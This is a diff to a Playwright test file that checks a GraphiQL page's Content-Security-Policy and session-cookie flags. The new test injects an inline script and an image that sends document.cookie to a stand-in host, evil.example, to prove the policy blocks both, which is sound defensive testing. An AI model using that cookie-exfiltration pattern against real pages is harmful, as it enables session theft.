@@ -14,6 +14,11 @@ from playwright.async_api import Browser, ConsoleMessage, Page, Request, WebSock
 from tests.stack import Stack
 
 SECONDS = 1000  # Playwright counts in milliseconds
+WATCH_POLICY = """
+window.violations = [];
+addEventListener("securitypolicyviolation", (event) =>
+  violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+"""
 
 
 class Frame(TypedDict, total=False):
@@ -63,7 +68,10 @@ async def test_graphiql_logs_in_queries_switches_tenant_and_follows_the_switch_t
 ) -> None:
     page = await browser.new_page(viewport={"width": 1440, "height": 1000})
     visit = Visit(page, dev_stack.url)
-    await page.goto(f"{dev_stack.url}/graphiql")
+    await page.add_init_script(WATCH_POLICY)
+    opened = await page.goto(f"{dev_stack.url}/graphiql")
+    assert opened is not None
+    assert "script-src 'self';" in opened.headers["content-security-policy"]
     await expect(page.get_by_role("tab")).to_contain_text(["LogIn", "Dashboard", "SwitchTenant", "FollowOperation"])
     await expect(page.locator(".graphiql-editor-tool")).to_contain_text("ada@example.com")
 
@@ -71,7 +79,8 @@ async def test_graphiql_logs_in_queries_switches_tenant_and_follows_the_switch_t
     await visit.expect_answer('"status": "COMPLETED"', '"name": "verify_credentials"')
     await page.screenshot(path=artifacts / "graphiql-log-in.png")
     cookies = await page.context.cookies()
-    assert [cookie["httpOnly"] and cookie["sameSite"] in {"Lax", "Strict"} for cookie in cookies] == [True]
+    assert {cookie["name"] for cookie in cookies} == {"adx_session", "adx_device"}
+    assert all(cookie["httpOnly"] and cookie["sameSite"] in {"Lax", "Strict"} for cookie in cookies)
 
     await visit.run("Dashboard")
     await visit.expect_answer('"email": "ada@example.com"', '"tenant": { "name": "Acme"')
@@ -90,5 +99,24 @@ async def test_graphiql_logs_in_queries_switches_tenant_and_follows_the_switch_t
 
     await visit.run("Dashboard")
     await visit.expect_answer('"tenant": { "name": "Globex"')
+    assert await page.evaluate("violations") == []
     assert visit.complaints == []
     assert visit.strangers == []
+
+
+async def test_the_policy_stops_what_a_page_would_be_made_to_run(browser: Browser, dev_stack: Stack) -> None:
+    """That none is told of above proves nothing unless one would be."""
+    page = await browser.new_page()
+    await page.add_init_script(WATCH_POLICY)
+    await page.goto(f"{dev_stack.url}/graphiql")
+    await page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.textContent = "window.stolen = true";
+        document.body.append(script);
+        const stranger = document.createElement("img");
+        stranger.src = "https://evil.example/?" + document.cookie;
+        document.body.append(stranger);
+    }""")
+    await page.wait_for_function("violations.length >= 2")
+    assert {each.split()[0] for each in await page.evaluate("violations")} == {"script-src-elem", "img-src"}
+    assert await page.evaluate("window.stolen") is None
